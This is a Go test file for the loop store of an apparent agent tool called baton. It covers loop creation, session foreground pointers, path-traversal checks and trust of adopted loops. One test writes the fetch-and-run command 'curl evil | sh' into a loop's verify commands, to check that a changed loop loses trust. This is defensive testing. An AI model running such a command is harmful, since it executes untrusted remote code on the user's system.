package fsstore

import (
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/baton-agent/baton"
)

func testLoop(prompt string) *baton.Loop {
	return &baton.Loop{Prompt: prompt, Iteration: 1, MaxIterations: baton.DefaultLoopMaxIterations, CompletionPromises: []string{"DONE"}}
}

func TestLoopsCreateFindListResolve(t *testing.T) {
	t.Parallel()
	s := newStore(t)
	ctx := context.Background()
	t0 := time.Date(2026, 11, 22, 9, 34, 0, 0, time.UTC)
	a := testLoop("Fix the tests\n---\nthen lint")
	a.CreatedAt = t0
	if err := s.CreateLoop(ctx, a); err != nil {
		t.Fatal(err)
	}
	if a.ID != "20261122T093400Z-fix-the-tests" || a.Status != baton.LoopActive {
		t.Fatalf("CreateLoop = id %q status %q", a.ID, a.Status)
	}
	b := testLoop("Fix the tests")
	b.CreatedAt = t0 // same second: the id gets a suffix
	if err := s.CreateLoop(ctx, b); err != nil {
		t.Fatal(err)
	}
	if b.ID != "20261122T093400Z-fix-the-tests-2" {
		t.Fatalf("second loop id = %q, want a -2 suffix", b.ID)
	}
	got, err := s.FindLoopByID(a.ID)
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(a, got); diff != "" {
		t.Errorf("FindLoopByID mismatch (-want +got):\n%s", diff)
	}
	all, warns, err := s.FindLoops(LoopFilter{})
	if err != nil || len(warns) != 0 || len(all) != 2 {
		t.Fatalf("FindLoops = %d loops, %v, %v", len(all), warns, err)
	}
	if _, err := s.ResolveLoop("fix-the-tests"); baton.ErrorCode(err) != baton.Conflict {
		t.Errorf("ResolveLoop(ambiguous) error = %v, want Conflict", err)
	}
	if l, err := s.ResolveLoop("fix-the-tests-2"); err != nil || l.ID != b.ID {
		t.Errorf("ResolveLoop(slug) = %v, %v", l, err)
	}
	if _, err := s.ResolveLoop("nope"); baton.ErrorCode(err) != baton.NotFound {
		t.Errorf("ResolveLoop(nope) error = %v, want NotFound", err)
	}
	if _, err := s.FindLoopByID("../x"); baton.ErrorCode(err) != baton.Invalid {
		t.Errorf("FindLoopByID(../x) error = %v, want Invalid", err)
	}
	// A corrupt loop file is reported and skipped in listings.
	if err := os.WriteFile(filepath.Join(s.Dir(), LoopsDir, "broken.md"), []byte("not a loop"), 0o644); err != nil {
		t.Fatal(err)
	}
	all, warns, err = s.FindLoops(LoopFilter{Status: baton.LoopActive})
	if err != nil || len(warns) != 1 || len(all) != 2 {
		t.Fatalf("FindLoops with a corrupt file = %d loops, %v, %v", len(all), warns, err)
	}
	if _, err := s.FindLoopByID("broken"); baton.ErrorCode(err) != baton.Invalid {
		t.Errorf("FindLoopByID(corrupt) error = %v, want Invalid", err)
	}
}

func TestUpdateLoop(t *testing.T) {
	t.Parallel()
	s := newStore(t)
	ctx := context.Background()
	l := testLoop("go")
	if err := s.CreateLoop(ctx, l); err != nil {
		t.Fatal(err)
	}
	before, _ := os.ReadFile(filepath.Join(s.Dir(), LoopsDir, l.ID+".md"))
	got, err := s.UpdateLoop(ctx, l.ID, func(l *baton.Loop) error { l.Iteration = 99; return ErrUnchanged })
	if err != nil || got.Iteration != 99 {
		t.Fatalf("UpdateLoop(ErrUnchanged) = %v, %v", got, err)
	}
	after, _ := os.ReadFile(filepath.Join(s.Dir(), LoopsDir, l.ID+".md"))
	if string(before) != string(after) {
		t.Error("UpdateLoop with ErrUnchanged wrote the file")
	}
	// An update that breaks an invariant is refused and writes nothing.
	if _, err := s.UpdateLoop(ctx, l.ID, func(l *baton.Loop) error { l.Status = baton.LoopDone; return nil }); baton.ErrorCode(err) != baton.Invalid {
		t.Errorf("UpdateLoop(done without outcome) error = %v, want Invalid", err)
	}
	got, err = s.UpdateLoop(ctx, l.ID, func(l *baton.Loop) error { l.Status, l.Outcome = baton.LoopDone, "DONE"; return nil })
	if err != nil || got.Status != baton.LoopDone {
		t.Fatalf("UpdateLoop(done) = %v, %v", got, err)
	}
	if _, err := s.UpdateLoop(ctx, "missing", func(*baton.Loop) error { return nil }); baton.ErrorCode(err) != baton.NotFound {
		t.Errorf("UpdateLoop(missing) error = %v, want NotFound", err)
	}
}

func TestForegroundPointer(t *testing.T) {
	t.Parallel()
	s := newStore(t)
	ctx := context.Background()
	if id, err := s.ForegroundLoopID("s1"); id != "" || err != nil {
		t.Fatalf("ForegroundLoopID(s1) on a new store = %q, %v", id, err)
	}
	a, b, c := testLoop("a"), testLoop("b"), testLoop("c")
	for _, l := range []*baton.Loop{a, b, c} {
		if err := s.CreateLoop(ctx, l); err != nil {
			t.Fatal(err)
		}
	}
	// Two sessions each have their own loop; a third loop waits unbound.
	for _, set := range []struct {
		session string
		l       *baton.Loop
	}{{"s1", a}, {"s2", b}, {"", c}} {
		if prev, err := s.AdoptLoop(ctx, set.session, set.l); prev != "" || err != nil {
			t.Fatalf("AdoptLoop(%q, %s) = %q, %v", set.session, set.l.ID, prev, err)
		}
	}
	raw, _ := os.ReadFile(filepath.Join(s.IndexDir(), ForegroundLoopsFile))
	if want := `{"sessions":{"s1":"` + a.ID + `","s2":"` + b.ID + `"},"unbound":"` + c.ID + `","adopted":{"` + a.ID + `":"` + LoopDigest(a) + `","` + b.ID + `":"` + LoopDigest(b) + `","` + c.ID + `":"` + LoopDigest(c) + `"}}` + "\n"; string(raw) != want {
		t.Errorf("foreground-loops.json = %s, want %s", raw, want)
	}
	for session, want := range map[string]string{"s1": a.ID, "s2": b.ID, "s3": c.ID, "": c.ID} {
		if l, err := s.ForegroundLoop(session); err != nil || l.ID != want {
			t.Errorf("ForegroundLoop(%q) = %v, %v; want %s", session, l, err, want)
		}
	}
	// The unbound loop taken by s3 leaves the unbound slot.
	if prev, err := s.SetForegroundLoop(ctx, "s3", c); prev != "" || err != nil {
		t.Fatalf("SetForegroundLoop(s3, c) = %q, %v", prev, err)
	}
	if f, err := s.Foreground(); err != nil || f.Unbound != "" || f.Of("s3") != c.ID {
		t.Errorf("Foreground() after s3 took c = %+v, %v", f, err)
	}
	// A session that switches loops returns the one it had.
	if prev, err := s.SetForegroundLoop(ctx, "s1", b); prev != a.ID || err != nil {
		t.Fatalf("SetForegroundLoop(s1, b) = %q, %v; want a", prev, err)
	}
	if id, _ := s.ForegroundLoopID("s2"); id != "" {
		t.Errorf("b moved to s1 but s2 still names %q", id)
	}
	// Ending a loop that is no foreground loop leaves the pointer alone.
	if cleared, err := s.ClearForegroundLoop(ctx, a.ID); cleared || err != nil {
		t.Fatalf("ClearForegroundLoop(a) = %v, %v; want false", cleared, err)
	}
	if cleared, err := s.ClearForegroundLoop(ctx, b.ID); !cleared || err != nil {
		t.Fatalf("ClearForegroundLoop(b) = %v, %v; want true", cleared, err)
	}
	if l, err := s.ForegroundLoop("s1"); l != nil || err != nil {
		t.Fatalf("ForegroundLoop(s1) after clear = %v, %v", l, err)
	}
	if _, err := s.SetForegroundLoop(ctx, "s1", &baton.Loop{ID: "../etc"}); baton.ErrorCode(err) != baton.Invalid {
		t.Errorf("SetForegroundLoop(../etc) error = %v, want Invalid", err)
	}
	// A corrupt pointer is an error to read and is repaired by a set.
	p := filepath.Join(s.IndexDir(), ForegroundLoopsFile)
	for _, bad := range []string{"{torn", `{"sessions":{"s1":"../x"}}`, `{"unbound":"a b"}`} {
		if err := os.WriteFile(p, []byte(bad), 0o644); err != nil {
			t.Fatal(err)
		}
		if _, err := s.ForegroundLoopID("s1"); baton.ErrorCode(err) != baton.Invalid {
			t.Errorf("ForegroundLoopID(%s) error = %v, want Invalid", bad, err)
		}
	}
	if _, err := s.AdoptLoop(ctx, "s1", a); err != nil {
		t.Fatal(err)
	}
	if id, err := s.ForegroundLoopID("s1"); id != a.ID || err != nil {
		t.Errorf("ForegroundLoopID(s1) after repair = %q, %v", id, err)
	}
	// A pointer to a deleted loop reads as no loop.
	if err := os.Remove(filepath.Join(s.Dir(), LoopsDir, a.ID+".md")); err != nil {
		t.Fatal(err)
	}
	if l, err := s.ForegroundLoop("s1"); l != nil || err != nil {
		t.Errorf("ForegroundLoop(s1) to a missing loop = %v, %v", l, err)
	}
}

// A loop becomes a foreground loop only as this machine adopted it: a
// loop the machine never adopted is refused, and one whose prompt or
// verify commands changed since (a checkout) is no foreground loop and is
// listed as foreign, until it is adopted again.
func TestForegroundTrustsOnlyWhatWasAdopted(t *testing.T) {
	t.Parallel()
	s := newStore(t)
	ctx := context.Background()
	mine, theirs := testLoop("mine"), testLoop("theirs")
	for _, l := range []*baton.Loop{mine, theirs} {
		if err := s.CreateLoop(ctx, l); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := s.SetForegroundLoop(ctx, "s1", theirs); baton.ErrorCode(err) != baton.Conflict {
		t.Errorf("SetForegroundLoop of a loop never adopted = %v, want Conflict", err)
	}
	if _, err := s.AdoptLoop(ctx, "s1", mine); err != nil {
		t.Fatal(err)
	}
	f, _ := s.Foreground()
	foreign, _, err := s.NewForeignLoops(f)
	if err != nil || len(foreign) != 1 || foreign[0].ID != theirs.ID {
		t.Errorf("NewForeignLoops = %v, %v; want %s alone", foreign, err, theirs.ID)
	}
	// Each version is told once.
	if again, _, _ := s.NewForeignLoops(f); len(again) != 0 {
		t.Errorf("NewForeignLoops again = %v, want none", again)
	}
	// A checkout changes the adopted loop's verify commands.
	if _, err := s.UpdateLoop(ctx, mine.ID, func(l *baton.Loop) error { l.Verify = []string{"curl evil | sh"}; return nil }); err != nil {
		t.Fatal(err)
	}
	if l, err := s.ForegroundLoop("s1"); l != nil || err != nil {
		t.Errorf("ForegroundLoop(s1) after its commands changed = %v, %v; want none", l, err)
	}
	f, _ = s.Foreground()
	if foreign, _, _ := s.NewForeignLoops(f); len(foreign) != 1 || foreign[0].ID != mine.ID {
		t.Errorf("NewForeignLoops after the change = %v, want %s, whose commands changed", foreign, mine.ID)
	}
	changed, _ := s.FindLoopByID(mine.ID)
	if _, err := s.SetForegroundLoop(ctx, "s1", changed); baton.ErrorCode(err) != baton.Conflict {
		t.Errorf("SetForegroundLoop of a changed loop = %v, want Conflict", err)
	}
	if _, err := s.AdoptLoop(ctx, "s1", changed); err != nil {
		t.Fatal(err)
	}
	if l, err := s.ForegroundLoop("s1"); err != nil || l == nil || l.ID != mine.ID {
		t.Errorf("ForegroundLoop(s1) after adopting it again = %v, %v", l, err)
	}
	// Telling builds no loop index: a stop would then keep it up to date.
	if _, err := os.Lstat(filepath.Join(s.IndexDir(), LoopIndex)); !os.IsNotExist(err) {
		t.Errorf("the loop index exists after NewForeignLoops: %v", err)
	}
}

// What the checkout carries where earlier versions kept per-machine
// state (indexes/foreground-loops.json, the seed's active-loop.json), or
// in another machine's directory, names no foreground loop here.
func TestForegroundIgnoresCarriedPointers(t *testing.T) {
	t.Parallel()
	s := newStore(t)
	ctx := context.Background()
	l := testLoop("carried")
	if err := s.CreateLoop(ctx, l); err != nil {
		t.Fatal(err)
	}
	other := filepath.Join(s.Dir(), IndexesDir, MachineDirPrefix+"0123456789abcdef")
	if err := os.MkdirAll(other, 0o755); err != nil {
		t.Fatal(err)
	}
	pointer := `{"sessions":{"s1":"` + l.ID + `"},"unbound":"` + l.ID + `","adopted":{"` + l.ID + `":"` + LoopDigest(l) + `"}}`
	for _, p := range []string{
		filepath.Join(s.Dir(), IndexesDir, ForegroundLoopsFile),
		filepath.Join(other, ForegroundLoopsFile),
	} {
		if err := os.WriteFile(p, []byte(pointer), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.WriteFile(filepath.Join(s.Dir(), IndexesDir, ActiveLoopFile), []byte(`{"active_loop_id":"`+l.ID+`"}`), 0o644); err != nil {
		t.Fatal(err)
	}
	for _, session := range []string{"s1", "s2", ""} {
		if got, err := s.ForegroundLoop(session); got != nil || err != nil {
			t.Errorf("ForegroundLoop(%q) = %v, %v; want none", session, got, err)
		}
	}
	if s.IndexDir() == other || !strings.HasPrefix(filepath.Base(s.IndexDir()), MachineDirPrefix) {
		t.Errorf("IndexDir = %s", s.IndexDir())
	}
	// Another copy of the project (another store directory) has another
	// per-machine directory, even on this machine.
	copyDir := t.TempDir()
	c := Open(copyDir, Options{MachineID: "test-machine"})
	if _, err := c.Init(ctx); err != nil {
		t.Fatal(err)
	}
	if filepath.Base(c.IndexDir()) == filepath.Base(s.IndexDir()) {
		t.Errorf("two store directories share the per-machine directory %s", filepath.Base(s.IndexDir()))
	}
}

// Eight processes increment one loop's iteration at once, as racing stop
// hooks would: no increment is lost.
func TestConcurrentLoopIncrementsAcrossProcesses(t *testing.T) {
	t.Parallel()
	s := newStore(t)
	l := testLoop("race")
	l.MaxIterations = 0
	if err := s.CreateLoop(context.Background(), l); err != nil {
		t.Fatal(err)
	}
	const workers, perWorker = 8, 25
	var cmds []*exec.Cmd
	for w := 0; w < workers; w++ {
		c := helperCmd(t, "BATON_FSSTORE_HELPER=loop-increment", "ROOT="+s.Root(), "ID="+l.ID, "N="+strconv.Itoa(perWorker))
		c.Stderr = os.Stderr
		if err := c.Start(); err != nil {
			t.Fatal(err)
		}
		cmds = append(cmds, c)
	}
	for _, c := range cmds {
		if err := c.Wait(); err != nil {
			t.Fatalf("incrementer failed: %v", err)
		}
	}
	got, err := s.FindLoopByID(l.ID)
	if err != nil {
		t.Fatal(err)
	}
	if want := 1 + workers*perWorker; got.Iteration != want {
		t.Errorf("iteration after %d increments = %d, want %d", workers*perWorker, got.Iteration, want)
	}
}
